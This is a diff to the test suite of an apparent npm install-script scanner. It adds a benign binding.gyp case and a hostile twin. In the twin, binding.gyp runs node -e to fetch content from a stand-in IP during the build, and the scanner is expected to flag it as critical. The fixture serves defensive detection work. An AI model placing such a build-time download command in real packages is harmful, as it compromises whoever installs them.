@@ -79,6 +79,22 @@ describe('install-scripts reports', () => {
     expect(r.verdict).toBe('malicious');
   });
 
+  test('binding.gyp resolving a header folder with node -e (the nan idiom) is a native build, not a download', () => {
+    const r = scanFiles({
+      'package.json': manifest({ gypfile: true }),
+      'binding.gyp': `{ 'targets': [{ 'target_name': 'x', 'sources': ['src/x.cc'], 'include_dirs': ['<!(node -e "require(\\'nan\\')")'] }] }`,
+    });
+    expect(r.of(RULE)).toEqual([finding('info', ['native-build'], { file: 'binding.gyp' })]);
+  });
+
+  test('its twin, node -e in binding.gyp that fetches and runs code, stays critical', () => {
+    const r = scanFiles({
+      'package.json': manifest({ gypfile: true }),
+      'binding.gyp': `{ 'targets': [{ 'target_name': 'x', 'include_dirs': ['<!(node -e "require(\\'https\\').get(\\'https://203.0.113.7/p\\',r=>r.pipe(process.stdout))")'] }] }`,
+    });
+    expect(r.of(RULE)).toContainEqual(finding('critical', ['install-shell-download'], { file: 'binding.gyp' }));
+  });
+
   test('"gypfile": true without a binding.gyp is low', () => {
     const r = scanFiles({ 'package.json': manifest({ gypfile: true }) });
     expect(r.of(RULE)).toEqual([finding('low', ['install-script'])]);
